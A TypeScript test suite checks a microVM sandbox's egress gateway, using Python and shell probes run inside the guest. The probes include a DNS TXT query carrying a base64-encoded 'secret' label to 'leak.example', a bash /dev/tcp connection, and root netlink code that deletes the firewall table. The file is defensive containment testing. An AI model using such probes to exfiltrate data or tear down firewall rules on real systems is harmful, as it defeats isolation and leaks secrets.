/**
 * The way out of real microVMs, to a gateway that the test speaks for: what programs of every kind open arrives there by its name,
 * nothing else leaves, and it ends with the life.
 */
import { once } from 'node:events';
import { type AddressInfo, createServer, type Server, type Socket } from 'node:net';
import type { EgressConnection, PortConnection } from '@space/core';
import { DEFAULT_SIZE, DEFAULT_VAULT, newId, type ProcessEvent } from '@space/core';
import type { Sandbox } from '@space/sdk';
import { type FakeEgress, FakePorts } from '@space/testkit';
import { afterAll, beforeAll, expect, it } from 'vitest';
import type { World } from './world.ts';

const chance = { bytes: (count: number) => crypto.getRandomValues(new Uint8Array(count)) };
const PEM = '-----BEGIN CERTIFICATE-----\nMQ==\n-----END CERTIFICATE-----\n';
const LITERALS = ['192.0.2.9', '2001:db8::9'];

/** Talks to an echo at each host, and prints what came back; by IPv6 where the name says so. */
const TALK = `
import socket, sys
for host in sys.argv[1:]:
    family = socket.AF_INET6 if host.lower().startswith("v6") else 0
    found = socket.getaddrinfo(host, 7, family, socket.SOCK_STREAM)[0]
    with socket.socket(found[0], socket.SOCK_STREAM) as s:
        s.settimeout(20); s.connect(found[4]); s.sendall(b"hello"); s.shutdown(socket.SHUT_WR)
        print(s.makefile("rb").read().decode())
`;

/** Everything that is neither TCP nor a question for a name, by root; prints the names of the errors. */
const OTHERS = `
import errno, socket
def tried(kind, protocol, family, to):
    try:
        with socket.socket(family, kind, protocol) as s: s.sendto(b"\\x08\\0\\xf7\\xff\\0\\0\\0\\0", to)
        return "sent"
    except OSError as error: return errno.errorcode[error.errno]
print(tried(socket.SOCK_DGRAM, 0, socket.AF_INET, ("192.0.2.9", 443)),
      tried(socket.SOCK_DGRAM, 0, socket.AF_INET6, ("2001:db8::9", 443)),
      tried(socket.SOCK_RAW, socket.IPPROTO_ICMP, socket.AF_INET, ("192.0.2.9", 0)),
      tried(socket.SOCK_DGRAM, 0, socket.AF_INET, ("198.18.0.2", 5353)))
`;

/** A question for TXT, at the name server and at another; prints code and count of each answer. */
const ASK = `
import socket
name = b"".join(bytes([len(l)]) + l for l in b"c2VjcmV0.leak.example".split(b".")) + b"\\0"
for kind in 16, 65:
    query = b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + name + bytes([0, kind, 0, 1])
    for server in "198.18.0.2", "192.0.2.53":
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(20); s.sendto(query, (server, 53)); answer = s.recv(512)
            print(answer[3] & 15, answer[7], end=" ")
`;

/** As \`nft delete table inet space\` does. */
const DROP_RULES = `
import socket, struct
def message(kind, flags, body): return struct.pack("=IHHII", 16 + len(body), kind, flags, 1, 0) + body
name = struct.pack("=HH", 10, 1) + b"space\\0\\0\\0"
batch = message(16, 1, b"\\0\\0\\0\\x0a") + message(10 << 8 | 2, 5, b"\\1\\0\\0\\0" + name) + message(17, 1, b"\\0\\0\\0\\x0a")
s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12); s.bind((0, 0)); s.send(batch)
assert struct.unpack_from("=i", s.recv(4096), 16)[0] == 0
`;

/** In a network of its own, joined to the guest's as those of containers are. */
const NESTED = `
set -e
ip netns add nested
ip link add outer type veth peer name inner
ip link set inner netns nested
ip addr add 10.9.0.1/24 dev outer; ip addr add fd09::1/64 dev outer nodad; ip link set outer up
ip netns exec nested sh -c 'ip addr add 10.9.0.2/24 dev inner; ip addr add fd09::2/64 dev inner nodad; ip link set inner up
  ip route add default via 10.9.0.1; ip -6 route add default via fd09::1
  python3 /home/user/talk.py v4.example v6.example ${LITERALS.join(' ')}'
`;

/** Sends until nobody takes more for a second; prints how much. Then it waits until all of it could be sent. */
const POUR = `
import select, socket
s = socket.create_connection(("slow.example", 7)); s.setblocking(False)
sent, block = 0, bytes(65536)
while select.select([], [s], [], 1)[1]: sent += s.send(block)
print(sent, flush=True)
s.setblocking(True); s.shutdown(socket.SHUT_WR); s.recv(1); print("taken", flush=True)
`;

/** Holds a connection until it ends, and writes down how. */
const HOLD = `
import socket
s = socket.create_connection(("held.example", 7)); s.sendall(b"x"); s.recv(1)
open("held", "w").close()
try: how = "end" if s.recv(1) == b"" else "bytes"
except ConnectionResetError: how = "reset"
with open("ended", "w") as file: file.write(how)
`;

const MANY = `
import socket, time
begun = time.monotonic()
all = [socket.create_connection(("many.example", 7), 60) for _ in range(200)]
for number, s in enumerate(all): s.sendall(number.to_bytes(2, "big"))
print(sum(int.from_bytes(s.recv(2, socket.MSG_WAITALL), "big") == number for number, s in enumerate(all)))
`;

/** The time from a connect to the first byte of the answer, for 20 of them; then how fast bytes pass, both ways. */
const MEASURE = `
import socket, time
times = []
for _ in range(20):
    begun = time.monotonic(); s = socket.create_connection(("echo.example", 7)); s.sendall(b"x"); s.recv(1); s.close()
    times.append((time.monotonic() - begun) * 1000)
times.sort(); print("connect to first byte: p50 %.1f ms, p95 %.1f ms" % (times[10], times[18]))
s = socket.create_connection(("sink.example", 7)); begun = time.monotonic()
for _ in range(128): s.sendall(bytes(65536))
s.shutdown(socket.SHUT_WR); s.recv(1); print("out: %.1f MB/s" % (8.39 / (time.monotonic() - begun)))
s = socket.create_connection(("source.example", 7)); begun = time.monotonic(); count = 0
while data := s.recv(65536): count += len(data)
print("in: %.1f MB/s" % (count / 1e6 / (time.monotonic() - begun)))
`;

export function egressCases(
  made: () => { readonly world: World; readonly sandbox: Sandbox; readonly egress: FakeEgress },
) {
  const ports = new FakePorts();
  const sockets = new Set<Socket>();
  let server: Server;
  beforeAll(async () => {
    server = createServer({ allowHalfOpen: true }, (socket) => {
      sockets.add(socket.on('error', () => undefined).once('close', () => sockets.delete(socket)));
      socket.pipe(socket);
    });
    await once(server.listen(0, '127.0.0.1'), 'listening');
    const { egress, sandbox } = made();
    egress.handle = handle;
    await sandbox.files.write('talk.py', TALK);
  });
  afterAll(() => {
    for (const socket of sockets) socket.destroy();
    server.close();
  });

  /** To the echo, unless the name says otherwise. */
  async function handle(guest: PortConnection, { host }: EgressConnection, signal: AbortSignal): Promise<void> {
    if (host === 'slow.example') await slow.promise;
    if (host === 'slow.example' || host === 'sink.example') {
      for await (const _ of guest.output);
      await guest.write(Buffer.from('.'));
      return guest.end();
    }
    if (host === 'source.example') {
      for (let count = 0; count < 128; count += 1) await guest.write(new Uint8Array(65_536));
      return guest.end();
    }
    if (host === 'curl.example') {
      for await (const request of guest.output) {
        await guest.write(Buffer.concat([Buffer.from('HTTP/1.1 200 OK\r\nConnection: close\r\n\r\n'), request]));
        guest.end();
      }
      return;
    }
    const echo = await ports.open((server.address() as AddressInfo).port, signal);
    const give = async () => {
      for await (const piece of echo.output) await guest.write(piece);
      guest.end();
    };
    const given = give();
    given.catch(() => undefined);
    for await (const piece of guest.output) await echo.write(piece);
    echo.end();
    await given;
  }
  const slow = Promise.withResolvers<void>();

  const python = (program: string) => `python3 - <<'PROGRAM'\n${program}\nPROGRAM`;
  async function output(command: string, user?: string, of = made().sandbox): Promise<string> {
    const { stdout, stderr, exitCode } = await of.run(command, {
      ...(user === undefined ? {} : { user }),
      timeoutMs: 90_000,
    });
    expect({ exitCode, stderr }).toEqual({ exitCode: 0, stderr: expect.any(String) });
    return stdout.trim();
  }
  const asked = () =>
    made()
      .egress.asked.splice(0)
      .map(({ host, port }) => `${host} ${port}`);

  it('brings what programs open to the gateway by its name, over IPv4 and IPv6, and an address as itself', async () => {
    asked();
    const hosts = ['v4.example', 'V6.Example.', ...LITERALS].join(' ');
    expect(await output(`python3 talk.py ${hosts}`)).toBe(Array(4).fill('hello').join('\n'));
    expect(asked()).toEqual(['v4.example', 'v6.example', ...LITERALS].map((host) => `${host} 7`));
    const bash = 'exec 3<>/dev/tcp/bash.example/7; echo shell >&3; read -r line <&3; echo "$line"';
    expect(await output(`env -i /bin/bash -c '${bash}'`)).toBe('shell');
    expect(await output('sudo env -i /usr/bin/python3 talk.py root.example')).toBe('hello');
    expect(await output('curl -s --max-time 20 http://curl.example:8080/path')).toContain('GET /path HTTP/1.1');
    expect(asked()).toEqual(['bash.example 7', 'root.example 7', 'curl.example 8080']);
  });

  it('fails all else at once, and answers questions for names without telling anybody', async () => {
    asked();
    const begun = performance.now();
    expect(await output(python(OTHERS), 'root')).toBe('EPERM EPERM EPERM EPERM');
    expect(await output(python(ASK))).toBe('0 0 0 0 0 0 0 0');
    expect(await output('getent ahostsv4 any.name.example | head -1')).toMatch(/^198\.1[89]\./);
    expect(performance.now() - begun).toBeLessThan(15_000);
    expect(asked()).toEqual([]);
  });

  it('takes networks inside the guest along', async () => {
    asked();
    expect((await output(NESTED, 'root')).split('\n')).toEqual(Array(4).fill('hello'));
    expect(asked()).toEqual(['v4.example', 'v6.example', ...LITERALS].map((host) => `${host} 7`));
    await output('ip netns delete nested', 'root');
  });

  it('lets a program send no more than is taken, and as many as 200 at once', async () => {
    const { sandbox } = made();
    let printed = '';
    const onStdout = (text: string) => {
      printed += text;
    };
    const poured = sandbox.run(python(POUR), { onStdout });
    await expect.poll(() => printed, { timeout: 60_000 }).toMatch(/^\d+\n/);
    expect(Number.parseInt(printed, 10)).toBeLessThan(8_000_000);
    expect(await output(python(MANY))).toBe('200');
    slow.resolve();
    expect((await poured).stdout).toContain('taken');
    console.log(await output(python(MEASURE)));
    console.log(
      `agent with 200 connections behind it: ${await output('grep -E "VmHWM|VmRSS" /proc/1/status | tr -s "\\t\\n" "  "', 'root')}`,
    );
  });

  it('ends with the life, by a reset, and works in the next one and in a fork', async () => {
    const { sandbox, egress } = made();
    await sandbox.start(python(HOLD));
    await output('until [ -e held ]; do sleep 0.1; done');
    await sandbox.pause();
    expect(await output('until [ -s ended ]; do sleep 0.1; done; cat ended')).toBe('reset');
    expect(await output('python3 talk.py again.example')).toBe('hello');
    const [fork] = await sandbox.fork(1);
    if (fork === undefined) throw new Error('no fork');
    await using copy = fork;
    asked();
    expect(await output('python3 talk.py fork.example', undefined, copy)).toBe('hello');
    expect(egress.asked.splice(0)).toMatchObject([{ sandboxId: copy.id, host: 'fork.example', port: 7 }]);
    // Root may do with its network what it likes: then nothing leaves at all.
    await output(python(DROP_RULES), 'root', copy);
    const alone = await copy.run(`timeout 3 python3 talk.py ${LITERALS[0]}`);
    expect(alone.exitCode).not.toBe(0);
    expect(egress.asked).toEqual([]);
  });

  it('puts certificates where programs look for them, before any runs', async () => {
    const { node } = made().world.platform;
    const sandboxId = newId('sandbox', chance);
    const vault = DEFAULT_VAULT;
    const from = await node.ensureReady(vault, 'base', DEFAULT_SIZE);
    const order = { vault, sandboxId, epoch: 1, from, template: 'base', generation: 1, size: DEFAULT_SIZE };
    await node.start({ ...order, trust: PEM });
    try {
      const script =
        'tail -3 /etc/ssl/certs/ca-certificates.crt | cmp - "$NODE_EXTRA_CA_CERTS" && sudo env | grep SSL_CERT';
      const command = { processId: newId('process', chance), argv: ['/bin/bash', '-c', script], env: {} };
      const events = await Array.fromAsync<ProcessEvent>(node.exec(sandboxId, command));
      const text = events.map((event) => (event.kind === 'output' ? Buffer.from(event.data).toString() : '')).join('');
      expect(text).toBe('SSL_CERT_FILE=/etc/ssl/certs/ca-certificates.crt\n');
    } finally {
      await node.destroy({ vault, sandboxId, epoch: 2, points: [] });
    }
  });
}
